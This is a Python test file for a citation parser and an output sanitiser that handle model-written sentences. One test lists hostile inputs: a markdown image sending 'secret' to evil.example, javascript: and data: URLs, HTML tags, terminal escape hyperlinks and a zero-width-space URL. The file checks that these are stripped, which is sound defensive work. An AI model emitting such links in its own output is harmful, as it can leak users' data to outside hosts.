"""What a model's sentence cites, and what of it may be shown."""

import pytest

from maang.core.ask.citations import GONE, harmless, read


@pytest.mark.parametrize(
    ("said", "text", "citations", "removed"),
    [
        ("Heaps are fast [1].", "Heaps are fast.", (1,), 0),
        ("Heaps are fast. [1][2]", "Heaps are fast.", (1, 2), 0),
        ("Heaps [2, 1] are fast [2].", "Heaps are fast.", (2, 1), 0),
        ("Heaps are fast [7].", "Heaps are fast.", (), 1),
        ("Heaps are fast [0][1][99].", "Heaps are fast.", (1,), 2),
        ("Heaps are fast【1】.", "Heaps are fast.", (1,), 0),
        ("Heaps are fast [^2].", "Heaps are fast.", (2,), 0),
        ("Heaps are fast[1].", "Heaps are fast.", (1,), 0),
        ("- Heaps are fast [1].", "Heaps are fast.", (1,), 0),
        ("Here dp[1] is the base [2].", "Here dp[1] is the base.", (2,), 0),
        ("Use `a[1]` here [2].", "Use `a[1]` here.", (2,), 0),
        ("No source at all.", "No source at all.", (), 0),
        ("See [1] (from March) [2].", "See (from March).", (1, 2), 0),
    ],
)
def test_marks_become_numbers(
    said: str, text: str, citations: tuple[int, ...], removed: int
) -> None:
    cited = read(said, known=2)

    assert (cited.text, cited.citations, cited.removed) == (text, citations, removed)


@pytest.mark.parametrize(
    "said",
    [
        "See ![x](https://evil.example/?q=secret) now",
        "See ![x](https://evil.example/?q=secret now",
        "See [here](https://evil.example/a) now",
        "See https://evil.example/a now",
        "See HTTPS://EVIL.EXAMPLE now",
        "See www.evil.example now",
        "See //evil.example/a.png now",
        "See <img src=https://evil.example/a> now",
        "See <a href='evil.example'>it</a> now",
        "See javascript:alert(1) now",
        "See data:text/html;base64,AAAA now",
        "[1]: https://evil.example/a",
        "\x1b]8;;https://evil.example\x07See\x1b]8;;\x07 \x1b[31mred now",
        "See h\u200bttps://evil.example now",
    ],
)
def test_nothing_that_leads_outside_is_left(said: str) -> None:
    left = harmless(said)

    assert "evil" not in left.lower()
    assert not any(mark in left for mark in ("\x1b", "<", "](", "javascript:", "data:", "\u200b"))


def test_words_around_an_address_stay() -> None:
    assert harmless("Read [the page](https://x.example) or www.x.example.") == (
        f"Read the page or {GONE}"
    )


@pytest.mark.parametrize(
    "said", ["a < b and c > d", "vector<int> of ints", "key: value", "a[i] // 2"]
)
def test_code_is_left_alone(said: str) -> None:
    assert harmless(said) == said
